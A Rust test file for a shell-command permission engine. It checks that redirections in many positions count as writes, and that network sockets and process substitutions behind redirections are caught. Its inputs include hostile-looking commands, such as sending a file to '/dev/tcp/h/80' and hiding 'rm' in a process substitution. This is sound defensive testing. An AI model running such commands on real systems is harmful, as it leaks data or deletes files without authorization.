//! Every form of redirection at every place of a command is an act with its target. (T7)

use portcullis_engine::{Mode, Outcome};
use serde_json::json;

use super::{policy, verdict};

/// Operators that write what stands behind them.
const WRITING: [&str; 14] =
    [">", ">>", ">|", "1>", "2>", "2>>", "9>", "&>", "&>>", ">&", "<>", "1<>", "{fd}>", "{fd}<>"];

/// Places; `{}` is the redirection.
const PLACES: [&str; 16] = [
    "ls {}",
    "{} ls",
    "ls {} -la a",
    "ls -la a{}",
    "A=1 {}",
    "{}",
    "exec {}",
    "(ls) {}",
    "{ ls; } {}",
    "if true; then ls; fi {}",
    "for i in 1; do ls; done {}",
    "while false; do ls; done {}",
    "case x in x) ls;; esac {}",
    "f() { ls; } {}; f",
    "echo $(ls {})",
    "ls | cat {}",
];

#[test]
fn every_form_at_every_place_is_a_write_of_its_target() {
    let asking = policy(Mode::Default, &json!({ "allow": ["Bash(ls:*)"] }));
    let denying = policy(Mode::Bypass, &json!({ "deny": ["Write(**/pwned)"] }));
    for form in WRITING {
        for place in PLACES {
            for target in ["pwned", " pwned", " 'pw'ned", " ./pwned", " /tmp/pwned"] {
                // A word that ends in a digit or a brace would become part of the operator.
                let text = place.replace("{}", &format!("{form}{target}"));
                let answer = verdict(&asking, &text);
                assert_ne!(answer.outcome, Outcome::Allow, "`{text}` in default");
                let answer = verdict(&denying, &text);
                let is_plain = !place.contains("a{}") || form.starts_with(['>', '&', '<']);
                assert!(!is_plain || answer.outcome == Outcome::Deny, "`{text}` under a deny rule");
            }
        }
    }
}

#[test]
fn what_goes_nowhere_or_comes_from_a_file_is_no_write() {
    let policy = policy(Mode::Default, &json!({}));
    for text in [
        "ls >/dev/null",
        "ls 2>&1",
        "ls &>/dev/null",
        "ls >&2",
        "cat <a",
        "cat <<< a",
        "cat <<E\na\nE",
        "{ ls; pwd; } 2>/dev/null",
        "ls 2>&-",
        "cat 0<a",
    ] {
        assert_eq!(verdict(&policy, text).outcome, Outcome::Allow, "`{text}`");
    }
}

#[test]
fn a_connection_or_a_process_behind_a_redirection_is_seen() {
    let asking = policy(Mode::Default, &json!({ "allow": ["Bash(cat:*)"] }));
    let denying = policy(Mode::Bypass, &json!({ "deny": ["Bash(rm:*)"] }));
    for text in ["cat a > /dev/tcp/h/80", "cat < /dev/udp/h/53", "exec 3<>/dev/tcp/h/80"] {
        assert_ne!(verdict(&asking, text).outcome, Outcome::Allow, "`{text}`");
    }
    for text in ["ls > >(rm x)", "cat < <(rm x)", "ls 2> >(rm x)", "exec 3> >(rm x)"] {
        assert_eq!(verdict(&denying, text).outcome, Outcome::Deny, "`{text}`");
    }
}
